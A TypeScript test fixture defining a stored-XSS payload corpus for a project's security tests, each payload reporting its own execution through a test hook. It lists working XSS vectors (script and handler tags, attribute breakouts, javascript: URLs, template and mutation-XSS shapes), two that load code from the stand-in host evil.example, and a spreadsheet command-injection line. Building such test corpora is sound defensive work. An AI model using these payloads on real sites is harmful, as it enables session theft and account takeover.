/**
 * The stored-XSS corpus of tests/security/xss.test.ts. Every payload that
 * manages to run calls `__xss('<id>')` (a function the test exposes to the
 * page), `alert('<id>')` (a dialog the test records) or sets `document.title`
 * to `XSS-RAN <id>`, so that any execution is noticed and named. The texts
 * are written for this project: classic tags and handlers, attribute and
 * context breakers, URL schemes, CSS, template and SurveyJS placeholder
 * syntax, mutation-XSS shapes known to have fooled sanitisers, encoded and
 * look-alike variants, and long ones.
 *
 * None starts or ends with white space (the API trims texts) and none holds a
 * NUL character (refused by the API: PostgreSQL cannot store it in jsonb).
 */
export type Payload = { id: string; text: string };

const hostile: Array<[string, (id: string) => string]> = [
  // Classic tags and handlers.
  ['script', (id) => `<script>__xss('${id}')</script>`],
  ['script-alert', (id) => `<script>alert('${id}')</script>`],
  ['script-mixed-case', (id) => `<ScRiPt>__xss('${id}')</sCrIpT>`],
  ['script-nested', (id) => `<scr<script>ipt>__xss('${id}')</scr</script>ipt>`],
  ['script-data-src', (id) => `<script src="data:text/javascript,__xss('${id}')"></script>`],
  ['script-remote', (id) => `<script src="//evil.example/${id}.js"></script>`],
  ['img-onerror', (id) => `<img src=x onerror="__xss('${id}')">`],
  ['img-onerror-alert', (id) => `<img src=x onerror=alert('${id}')>`],
  ['img-onerror-entities', (id) => `<img src=x onerror=&#x5F;&#x5F;xss&#x28;'${id}'&#x29;>`],
  ['img-title', (id) => `<img src=x onerror="document.title='XSS-RAN ${id}'">`],
  ['img-eval-atob', (id) => `<img src=x onerror="eval(atob('${Buffer.from(`__xss('${id}')`).toString('base64')}'))">`],
  ['svg-onload', (id) => `<svg onload="__xss('${id}')">`],
  ['svg-script', (id) => `<svg><script>__xss('${id}')</script></svg>`],
  ['svg-animate', (id) => `<svg><animate onbegin="__xss('${id}')" attributeName=x dur=1s>`],
  ['svg-xlink', (id) => `<svg><a xlink:href="javascript:__xss('${id}')"><text x=20 y=20>${id}</text></a></svg>`],
  ['details-ontoggle', (id) => `<details open ontoggle="__xss('${id}')">${id}</details>`],
  ['body-onload', (id) => `<body onload="__xss('${id}')">`],
  ['input-autofocus', (id) => `<input autofocus onfocus="__xss('${id}')">`],
  ['video-source', (id) => `<video><source onerror="__xss('${id}')"></video>`],
  ['audio-onerror', (id) => `<audio src=x onerror="__xss('${id}')">`],
  ['marquee', (id) => `<marquee onstart="__xss('${id}')">${id}</marquee>`],
  ['div-onmouseover', (id) => `<div onmouseover="__xss('${id}')">${id}</div>`],
  ['custom-onclick', (id) => `<x-tag tabindex=1 onfocus="__xss('${id}')" autofocus>${id}</x-tag>`],
  // Breaking out of an attribute, a tag, a comment or a raw-text element.
  ['break-attribute', (id) => `"><script>__xss('${id}')</script>`],
  ['break-single', (id) => `'><img src=x onerror=__xss('${id}')>`],
  ['attr-autofocus', (id) => `" autofocus onfocus="__xss('${id}')" x="`],
  ['attr-autofocus-single', (id) => `' autofocus onfocus='__xss("${id}")' x='`],
  ['break-backslash', (id) => `\\"><img src=x onerror=__xss('${id}')>`],
  ['break-comment', (id) => `--><script>__xss('${id}')</script>`],
  ['break-script', (id) => `</script><script>__xss('${id}')</script>`],
  ['break-title', (id) => `</title><script>__xss('${id}')</script>`],
  ['break-textarea', (id) => `</textarea><script>__xss('${id}')</script>`],
  ['comment-trick', (id) => `<!--<img src="--><img src=x onerror=__xss('${id}')//">`],
  // Frames, objects and navigation.
  ['iframe-srcdoc', (id) => `<iframe srcdoc="<script>parent.__xss('${id}')</script>"></iframe>`],
  ['iframe-javascript', (id) => `<iframe src="javascript:parent.__xss('${id}')"></iframe>`],
  ['object-data', (id) => `<object data="javascript:__xss('${id}')"></object>`],
  ['embed-src', (id) => `<embed src="javascript:__xss('${id}')">`],
  ['meta-refresh', (id) => `<meta http-equiv="refresh" content="0;url=javascript:__xss('${id}')">`],
  ['base-href', (id) => `<base href="javascript:__xss('${id}')//">`],
  ['form-action', (id) => `<form action="javascript:__xss('${id}')"><button>${id}</button></form>`],
  ['button-formaction', (id) => `<button formaction="javascript:__xss('${id}')">${id}</button>`],
  ['isindex', (id) => `<isindex action="javascript:__xss('${id}')" type=image>`],
  // URL schemes in links and markdown-ish text.
  ['a-javascript', (id) => `<a href="javascript:__xss('${id}')">Klick ${id}</a>`],
  ['a-javascript-tab', (id) => `<a href="jav&#x09;ascript:__xss('${id}')">${id}</a>`],
  ['a-javascript-control', (id) => `<a href=" &#14;javascript:__xss('${id}')">${id}</a>`],
  [
    'a-data-html',
    (id) =>
      `<a href="data:text/html;base64,${Buffer.from(`<script>__xss('${id}')</script>`).toString('base64')}">${id}</a>`,
  ],
  ['a-vbscript', (id) => `<a href="vbscript:msgbox('${id}')">${id}</a>`],
  ['markdown-link', (id) => `[Klick ${id}](javascript:__xss('${id}'))`],
  ['markdown-image', (id) => `![${id}](x" onerror="__xss('${id}'))`],
  ['bare-javascript-url', (id) => `javascript:__xss('${id}')`],
  // CSS.
  ['css-expression', (id) => `<div style="width:expression(__xss('${id}'))">${id}</div>`],
  ['css-url-javascript', (id) => `<div style="background:url(javascript:__xss('${id}'))">${id}</div>`],
  ['style-element', (id) => `<style>body{background:url("javascript:__xss('${id}')")}</style>`],
  ['style-import', (id) => `<style>@import 'https://evil.example/${id}.css';</style>`],
  // Template and placeholder syntax.
  ['angular-constructor', (id) => `{{constructor.constructor('__xss("${id}")')()}}`],
  ['angular-on', (id) => `{{$on.constructor('__xss("${id}")')()}}`],
  ['template-literal', (id) => `\${__xss('${id}')}`],
  ['erb-jsp', (id) => `<%= __xss('${id}') %> #{__xss('${id}')}`],
  ['surveyjs-constructor', (id) => `{constructor.constructor('__xss("${id}")')()}`],
  ['surveyjs-proto', (id) => `{__proto__.toString} {toString} {locale} {pageno} ${id}`],
  ['surveyjs-expression', (id) => `{iif(true, '<img src=x onerror=__xss("${id}")>', '')}`],
  // Mutation XSS: shapes that re-parse into something else.
  ['mxss-math-style', (id) => `<math><mtext><table><mglyph><style><img src=x onerror=__xss('${id}')>`],
  ['mxss-noscript', (id) => `<noscript><p title="</noscript><img src=x onerror=__xss('${id}')>">`],
  ['mxss-form-math', (id) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss('${id}')>`],
  ['mxss-svg-style', (id) => `<svg></p><style><a id="</style><img src=1 onerror=__xss('${id}')>">`],
  ['mxss-xmp', (id) => `<xmp><p title="</xmp><img src=x onerror=__xss('${id}')>">`],
  ['mxss-template', (id) => `<template><script>__xss('${id}')</script></template>`],
  ['dom-clobbering', (id) => `<a id="__xss" name="${id}" href="x">${id}</a><form name="getElementById"></form>`],
  // Encoded and look-alike variants (must show as the literal text they are).
  ['entity-script', (id) => `&#x3C;script&#x3E;__xss('${id}')&#x3C;/script&#x3E;`],
  ['entity-img', (id) => `&lt;img src=x onerror=__xss('${id}')&gt;`],
  ['unicode-escape', (id) => `\\u003cscript\\u003e__xss('${id}')\\u003c/script\\u003e`],
  ['url-encoded', (id) => `%3Cscript%3E__xss('${id}')%3C%2Fscript%3E`],
  ['fullwidth', (id) => `＜script＞__xss('${id}')＜/script＞`],
  ['rtl-override', (id) => `\u202e<img src=x onerror=__xss('${id}')>\u202c`],
  ['zero-width', (id) => `<scr\u200bipt>__xss('${id}')</scr\u200bipt>`],
  ['cyrillic-script', (id) => `<ѕcript>__xss('${id}')</ѕcript>`],
  ['spreadsheet', (id) => `=HYPERLINK("javascript:__xss('${id}')") +cmd|' /C calc'!A0`],
  // Long ones.
  ['long-bold', (id) => `${'<b>'.repeat(400)}<img src=x onerror=__xss('${id}')>`],
  ['long-text', (id) => `${'Lorem ipsum dolor sit amet. '.repeat(150)}<script>__xss('${id}')</script>`],
  ['long-nesting', (id) => `${'<div>'.repeat(300)}<svg onload=__xss('${id}')>${'</div>'.repeat(300)}`],
];

/** The corpus, each payload with its short id (x01 …) that its code would report. */
export const PAYLOADS: Payload[] = hostile.map(([, make], i) => {
  const id = `x${String(i + 1).padStart(2, '0')}`;
  return { id, text: make(id) };
});

/** The kind of each payload (`x07` → `img-onerror`), for messages. */
export const PAYLOAD_KIND = new Map(hostile.map(([kind], i) => [`x${String(i + 1).padStart(2, '0')}`, kind]));
